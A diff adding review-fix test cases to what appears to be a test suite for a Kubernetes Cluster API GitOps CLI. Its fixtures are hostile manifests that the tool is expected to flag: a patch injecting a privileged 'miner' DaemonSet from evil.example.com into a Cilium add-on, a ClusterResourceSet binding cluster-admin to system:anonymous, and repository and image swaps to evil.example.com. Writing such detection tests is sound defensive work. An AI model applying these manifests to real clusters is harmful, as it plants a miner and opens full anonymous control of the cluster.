@@ -227,6 +227,47 @@ const RB_CLUSTER_ADMIN = "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBi
 const deployment = (name: string, podSpec: string) =>
   `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\nspec:\n  selector: {matchLabels: {app: ${name}}}\n  template:\n    metadata: {labels: {app: ${name}}}\n    spec:\n      containers: [{name: x, image: example.com/x:1, securityContext: {privileged: true}}]\n${podSpec}\n`;
 
+/** fix-a: a JSON patch adding a privileged hostNetwork DaemonSet to the Cilium add-on's payload. */
+const ADDON_PATCH = [
+  "patches:",
+  "  - target: {kind: ConfigMap, name: demo-addon-cilium-v1.20.2}",
+  "    patch: |",
+  "      - op: add",
+  "        path: /data/zz-extra.yaml",
+  "        value: |",
+  "          apiVersion: apps/v1",
+  "          kind: DaemonSet",
+  "          metadata: {name: miner, namespace: kube-system}",
+  "          spec:",
+  "            selector: {matchLabels: {app: miner}}",
+  "            template:",
+  "              metadata: {labels: {app: miner}}",
+  "              spec:",
+  "                hostNetwork: true",
+  "                containers: [{name: m, image: evil.example.com/miner:latest, securityContext: {privileged: true}}]",
+];
+/** fix-a: a ClusterResourceSet of the cluster layer's own, applying cluster-admin for system:anonymous to demo. */
+const OWN_CRS = [
+  "apiVersion: addons.cluster.x-k8s.io/v1beta2",
+  "kind: ClusterResourceSet",
+  "metadata: {name: pwn}",
+  "spec:",
+  "  clusterSelector: {matchLabels: {cluster.x-k8s.io/cluster-name: demo}}",
+  "  resources: [{kind: ConfigMap, name: pwn}]",
+  "---",
+  "apiVersion: v1",
+  "kind: ConfigMap",
+  "metadata: {name: pwn}",
+  "data:",
+  "  crb.yaml: |",
+  "    apiVersion: rbac.authorization.k8s.io/v1",
+  "    kind: ClusterRoleBinding",
+  "    metadata: {name: anon}",
+  "    roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}",
+  "    subjects: [{kind: Group, name: system:anonymous, apiGroup: rbac.authorization.k8s.io}]",
+  "",
+].join("\n");
+
 const ALIAS_BOMB = ["x-a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]", ..."bcdefghi".split("").map((l, i) => `x-${l}: &${l} [${Array(9).fill(`*${"abcdefghi"[i]}`).join(", ")}]`)].join("\n") + "\n";
 
 /** `import` cases: the manifests (the seed's clusterctl quickstart, changed by `edit`, or given text) in the case's scratch folder. */
@@ -678,6 +719,17 @@ const CASES: Case[] = [
   { surface: "flags", name: "leftovers of a cluster HEAD does not have", setup: gitInit(), args: ["leftovers", "nosuch"], exit: 2, says: ["no cluster nosuch at HEAD", "demo"] },
   { surface: "flags", name: "leftovers --since a ref that does not exist", setup: gitInit(), args: ["leftovers", "--since", "no-such-ref"], exit: 2, says: ["no-such-ref"] },
   { surface: "environment", name: "leftovers outside a git repository", args: ["leftovers"], exit: 2, says: ["git", "not a git repository"] },
+  // --- fix-a: review fixes ---
+  overlay("fix-a 1: a patch adding a DaemonSet to the Cilium add-on ConfigMap", kustomization("resources:", "  - generated", ...ADDON_PATCH), [OVERLAY, "user-layer-addons", "ConfigMap/demo-addon-cilium-v1.20.2:data.zz-extra.yaml", "addons/cilium/v1.20.2/cilium.yaml"]),
+  { surface: "overlay", name: "fix-a 1: diff of a patch changing an add-on ConfigMap", setup: all(gitInit(), kustomization("resources:", "  - generated", ...ADDON_PATCH)), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["addon-changed", "ConfigMap/demo-addon-cilium-v1.20.2", OVERLAY] },
+  overlay("fix-a 2: an own ClusterResourceSet applying cluster-admin for system:anonymous", all(put("clusters/demo/crs.yaml", OWN_CRS), kustomization("resources:", "  - generated", "  - crs.yaml")), ["clusters/demo/crs.yaml", "user-layer-addons", "ClusterResourceSet/pwn:spec", "ConfigMap/pwn:data"]),
+  { surface: "capi-gitops.yaml", name: "fix-a 4: diff of a repoURL change", setup: all(gitInit(), edit("capi-gitops.yaml", "repoURL: https://git.example.com/platform/capi-gitops.git", "repoURL: https://evil.example.com/fork.git"), regenerate), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["sync-source-changed", "capi-gitops.yaml", "repoURL changes from https://git.example.com/platform/capi-gitops.git to https://evil.example.com/fork.git"] },
+  { surface: "capi-gitops.yaml", name: "fix-a 4: diff of a branch change", setup: all(gitInit(), edit("capi-gitops.yaml", "branch: main", "branch: other"), regenerate), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["sync-source-changed", "branch changes from main to other"] },
+  { surface: "capi-gitops.yaml", name: "fix-a 4: diff of an argocd.project rename", setup: all(gitInit(), edit("capi-gitops.yaml", "gitops: argocd\n", "gitops: argocd\nargocd:\n  project: elsewhere\n"), regenerate), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["sync-source-changed", "argocd.project", "elsewhere"] },
+  { surface: "environment", name: "fix-a 3: validate with a payload image not in versions.json", setup: edit(CILIUM_PAYLOAD, "quay.io/cilium/cilium:v1.20.2", "evil.example.com/cilium:latest"), args: ["validate", "--skip-cel"], exit: 1, stream: "stdout", says: ["addons-images", CILIUM_PAYLOAD, "evil.example.com/cilium:latest are not listed in versions.json addons.images.cilium"] },
+  { surface: "environment", name: "fix-a 3: diff of an edited payload and lock", setup: all(put("addons.lock.json", '{"files": {}}\n'), gitInit(), edit(CILIUM_PAYLOAD, "quay.io/cilium/cilium:v1.20.2", "evil.example.com/cilium:latest"), edit("addons.lock.json", "{}", '{"addons/cilium/v1.20.2/cilium.yaml": "0000"}')), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["addons-changed", CILIUM_PAYLOAD, "addons.lock.json"] },
+  overlay("fix-a 1: a patch deleting the Cilium add-on ConfigMap", kustomization("resources:", "  - generated", "patches:", "  - target: {kind: ConfigMap, name: demo-addon-cilium-v1.20.2}", "    patch: |", "      $patch: delete", "      apiVersion: v1", "      kind: ConfigMap", "      metadata:", "        name: x"), ["user-layer-addons", "ClusterResourceSet/demo-cni:spec.resources", "the render lacks", "addons/cilium/v1.20.2/cilium.yaml"]),
+  { surface: "overlay", name: "fix-a 2: diff of an own ClusterResourceSet", setup: all(gitInit(), put("clusters/demo/crs.yaml", OWN_CRS), kustomization("resources:", "  - generated", "  - crs.yaml")), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["addon-changed", "ClusterResourceSet/pwn"] },
 ];
 
 // ---------------------------------------------------------------------------------------------------------------
